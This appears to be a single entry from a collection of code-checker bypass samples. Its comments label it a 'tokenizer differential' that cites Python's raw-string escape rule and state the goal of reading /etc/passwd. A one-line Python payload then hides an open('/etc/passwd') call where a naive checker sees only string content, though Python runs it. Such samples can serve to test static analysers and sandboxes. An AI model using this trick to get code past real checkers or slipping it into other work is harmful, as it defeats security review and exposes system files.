# source: The Python Language Reference, "Lexical analysis: String and bytes literals": "Even in a raw literal, quotes can be escaped with a backslash, but the backslash remains in the result" (https://docs.python.org/3.11/reference/lexical_analysis.html#string-and-bytes-literals); raw f-strings follow the same rule
# family: tokenizer differential - a raw f-string's \" does not end it for Python; a checker that lets raw mean "backslash is plain text" ends it early and reads the code after it as a string
# goal: /etc/passwd through open(), hidden behind what the checker takes for the next string's start
x = rf"\" + "; print(open('/etc/passwd').read()[:40]) #"
print(x)
